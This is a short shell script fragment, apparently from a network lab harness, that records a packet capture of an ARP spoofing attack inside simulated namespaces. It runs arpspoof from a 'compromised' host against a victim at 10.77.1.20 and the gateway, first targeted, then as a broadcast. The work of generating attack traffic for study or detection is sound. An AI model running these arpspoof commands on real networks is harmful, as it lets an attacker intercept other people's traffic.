# arpspoof (dsniff) on U1's LAN from the compromised PC (MAC 02:77:01:00:00:10). First the victim
# 10.77.1.20 (02:77:01:00:00:20) browses, so the capture holds the true bindings of the victim and the
# gateway (the hub's 10.77.1.1 = 02:77:01:00:00:01). Then 6 s of `arpspoof -t victim -r gateway` (the hub
# is told 10.77.1.20 is-at the attacker), then 5 s of `arpspoof gateway` (broadcast: 10.77.1.1 is-at the
# attacker). arpspoof re-ARPs the true bindings when it stops.
capture_start L1 "$OUT/arp_spoof.pcap"
nsx unit1v ip neigh flush all
nsx hub ip neigh flush dev u1
nsx unit1v timeout 10 curl -s -o /dev/null http://10.200.1.10/ || true
sleep 1
nsx unit1 timeout -s INT -k 12 6 arpspoof -i br0 -t 10.77.1.20 -r 10.77.1.1 >"$WORK/arpspoof.log" 2>&1 || true
nsx unit1 timeout -s INT -k 12 5 arpspoof -i br0 10.77.1.1 >>"$WORK/arpspoof.log" 2>&1 || true
capture_stop
